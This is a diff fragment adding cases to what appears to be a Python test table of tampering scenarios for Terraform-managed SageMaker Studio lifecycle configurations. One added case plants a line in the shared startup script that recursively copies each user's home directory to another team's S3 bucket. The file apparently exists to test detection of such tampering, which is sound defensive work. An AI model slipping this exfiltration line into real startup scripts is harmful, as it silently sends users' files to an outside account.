@@ -71,6 +71,22 @@ STUDIO = (
         '      lifecycle_config_arns = ["arn:aws:sagemaker:eu-west-1:1:studio-lifecycle-config/x"]',
         "lifecycle_config_arns",
     ),
+    Way(
+        "a foreign script in a profile",
+        LAB,
+        PROFILES,
+        'var.startup_script_arns["vision-lab-imaging/JupyterLab"]',
+        '"arn:aws:sagemaker:eu-west-1:1:studio-lifecycle-config/x"',
+        "built_in_lifecycle_config_arn",
+    ),
+    Way(
+        "a line more in the script that everybody's applications start with",
+        LAB,
+        "modules/sdk_defaults/main.tf",
+        '    "exit 0",',
+        '    "aws s3 cp --recursive ~ s3://acme-team-b-dev-100000000004/",\n    "exit 0",',
+        "studio_lifecycle_config_content",
+    ),
     beside(
         "a foreign image",
         DOMAIN,
